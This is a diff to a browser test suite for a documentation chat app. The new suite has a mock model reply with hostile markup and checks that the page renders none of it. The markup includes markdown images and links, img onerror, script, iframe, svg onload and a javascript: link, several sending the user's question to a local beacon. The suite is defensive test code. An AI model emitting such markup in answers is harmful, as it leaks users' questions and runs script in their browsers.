@@ -1,12 +1,16 @@
 /**
  * The page at `/` in headless Chromium against the offline server: streaming text, the offline
- * badge, citations that open their source, meters, Cancel, and tool approvals.
+ * badge, citations that open their source, meters, Cancel, and tool approvals; and against a
+ * model (the mock provider) whose answer carries markup that would load a beacon or run script.
  * Needs Chromium (CHROMIUM_PATH or /usr/bin/chromium); DOCS_CHAT_SKIP_BROWSER=1 skips it.
  */
 import { existsSync } from 'node:fs';
 import { mkdtemp, rm } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { type MockProvider, startMockProvider } from '@keel/testing';
 import { type BrowserContext, chromium, type Locator, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
 import { startTestApp } from './start-test-app.js';
@@ -28,6 +32,21 @@ const PACE_MS = 40;
 /** Generous: two cores shared with other suites. */
 const WAIT_MS = 60_000;
 
+/** Headless Chromium with its profile in `userDataDir`. */
+async function launchChromium(userDataDir: string): Promise<BrowserContext> {
+  if (!existsSync(CHROMIUM)) {
+    throw new Error(
+      `Chromium not found at ${CHROMIUM}: run \`apt-get install chromium\` or set CHROMIUM_PATH; ` +
+        'DOCS_CHAT_SKIP_BROWSER=1 skips this test.',
+    );
+  }
+  return chromium.launchPersistentContext(userDataDir, {
+    executablePath: CHROMIUM,
+    headless: true,
+    args: ARGS,
+  });
+}
+
 interface Turn {
   role: 'user' | 'assistant';
   text: string;
@@ -46,19 +65,9 @@ describe.skipIf(SKIP)('docs-chat page in Chromium', () => {
   let refusalsExpected = false;
 
   beforeAll(async () => {
-    if (!existsSync(CHROMIUM)) {
-      throw new Error(
-        `Chromium not found at ${CHROMIUM}: run \`apt-get install chromium\` or set CHROMIUM_PATH; ` +
-          'DOCS_CHAT_SKIP_BROWSER=1 skips this test.',
-      );
-    }
     app = await startTestApp({ env: { DOCS_CHAT_OFFLINE_PACE_MS: String(PACE_MS) } });
     userDataDir = await mkdtemp(join(tmpdir(), 'docs-chat-chromium-'));
-    context = await chromium.launchPersistentContext(userDataDir, {
-      executablePath: CHROMIUM,
-      headless: true,
-      args: ARGS,
-    });
+    context = await launchChromium(userDataDir);
   });
 
   afterAll(async () => {
@@ -334,5 +343,129 @@ describe.skipIf(SKIP)('docs-chat page in Chromium', () => {
 
   it('shows no console errors or CSP violations', () => {
     expect(pageErrors).toEqual([]);
+  });
+});
+
+/** A value the page keeps in localStorage at `url`. */
+async function stored(context: BrowserContext, url: string, key: string): Promise<string> {
+  const page = await context.newPage();
+  await page.goto(url);
+  const value = await page.evaluate((name) => localStorage.getItem(name) ?? '', key);
+  await page.close();
+  return value;
+}
+const conversationOf = (context: BrowserContext, url: string) =>
+  stored(context, url, 'docs-chat.conversationId');
+const userOf = (context: BrowserContext, url: string) => stored(context, url, 'docs-chat.userId');
+
+describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', () => {
+  /** Requests the beacon received: anything loaded from the answer lands here. */
+  const beaconHits: string[] = [];
+  let beacon: Server;
+  let beaconUrl: string;
+  let provider: MockProvider;
+  let app: Awaited<ReturnType<typeof startTestApp>>;
+  let context: BrowserContext;
+  let userDataDir: string;
+
+  beforeAll(async () => {
+    beacon = createServer((request, response) => {
+      beaconHits.push(request.url ?? '');
+      response.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg/>');
+    });
+    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
+    beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
+    provider = await startMockProvider();
+    // The model replies with markup meant to load the beacon (carrying the question) and to
+    // run script; the page must show whatever the model sent as text.
+    provider.respondWith('openai.chat', (request) => {
+      const messages = request.body.messages as Array<{ role: string; content: unknown }>;
+      // The user message ends with the question, after the retrieved documents.
+      const question = encodeURIComponent(
+        String(messages.filter((m) => m.role === 'user').at(-1)?.content ?? '')
+          .split('\n')
+          .at(-1) ?? '',
+      );
+      const beam = `${beaconUrl}/collect?q=${question}`;
+      return {
+        text: [
+          'Budgets are per user and per day.',
+          `![status](${beam}&via=markdown-image)`,
+          `[the docs](${beam}&via=markdown-link)`,
+          `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
+          `<script>window.__pwned = 'script'; fetch('${beam}&via=script')</script>`,
+          `<iframe src="${beam}&via=iframe"></iframe>`,
+          "[click me](javascript:window.__pwned='javascript-link')",
+          `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
+          'That is all about budgets.',
+        ].join('\n'),
+      };
+    });
+    app = await startTestApp({
+      env: {
+        DOCS_CHAT_PROVIDER: 'openai',
+        OPENAI_API_KEY: 'test-key-not-real',
+        OPENAI_BASE_URL: provider.openaiBaseURL,
+      },
+    });
+    userDataDir = await mkdtemp(join(tmpdir(), 'docs-chat-chromium-hostile-'));
+    context = await launchChromium(userDataDir);
+  });
+
+  afterAll(async () => {
+    await context?.close();
+    await app?.close();
+    await provider?.close();
+    await new Promise((resolve) => beacon?.close(resolve));
+    if (userDataDir) await rm(userDataDir, { recursive: true, force: true });
+  });
+
+  it('loads nothing, runs nothing, and shows the markup as text', async () => {
+    const page = await context.newPage();
+    await page.goto(app.url);
+    await page.getByTestId('new-chat').click();
+    await page.getByTestId('input').fill('How do budgets work?');
+    await page.getByTestId('send').click();
+    const message = page.locator('[data-role="assistant"]').first();
+    await message.and(page.locator('[data-outcome="stop"]')).waitFor({ timeout: WAIT_MS });
+    expect(provider.requests.length).toBeGreaterThan(0);
+    // Clicking every link in the answer, if any were made, must not run or load anything.
+    for (const link of await message.getByTestId('message-text').locator('a').all()) {
+      expect(await link.getAttribute('href')).not.toMatch(/^\s*javascript:|127\.0\.0\.1/i);
+    }
+    // The page is settled (the answer is stored) before anything it might load is counted.
+    await page.reload();
+    await page.locator('[data-role="assistant"]').first().waitFor({ timeout: WAIT_MS });
+    const restored = page.locator('[data-role="assistant"]').first().getByTestId('message-text');
+    for (const view of [message.getByTestId('message-text'), restored]) {
+      if (!(await view.count())) continue;
+      expect(await view.locator('img, script, iframe, svg, object, embed, image').count()).toBe(0);
+    }
+    const text = (await restored.textContent()) ?? '';
+    expect(text).toContain('Budgets are per user and per day.');
+    expect(text).toContain('That is all about budgets.');
+    // Whatever markup an output guard lets through is shown as characters, not rendered.
+    for (const markup of ['<script>', '<img ', '<iframe ', '<svg ', '![status](']) {
+      if (text.includes(markup.slice(0, 4))) expect(text).toContain(markup);
+    }
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
+    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
+    expect(beaconHits).toEqual([]);
+    await page.close();
+
+    // The control: the same answer rendered as HTML in a blank page loads the beacon, with the
+    // question, and runs its script; so the zero above is the page's doing.
+    const { turns } = (await (
+      await fetch(`${app.url}/api/conversations/${await conversationOf(context, app.url)}`, {
+        headers: { 'x-user-id': await userOf(context, app.url) },
+      })
+    ).json()) as { turns: Array<{ role: string; text: string }> };
+    const answer = turns.find((turn) => turn.role === 'assistant')?.text ?? '';
+    const blank = await context.newPage();
+    await blank.setContent(answer);
+    await blank.waitForFunction(() => Reflect.get(window, '__pwned') !== undefined);
+    await vi.waitFor(() => expect(beaconHits.length).toBeGreaterThan(0), { timeout: WAIT_MS });
+    expect(beaconHits[0]).toContain(encodeURIComponent('How do budgets work?'));
+    await blank.close();
   });
 });
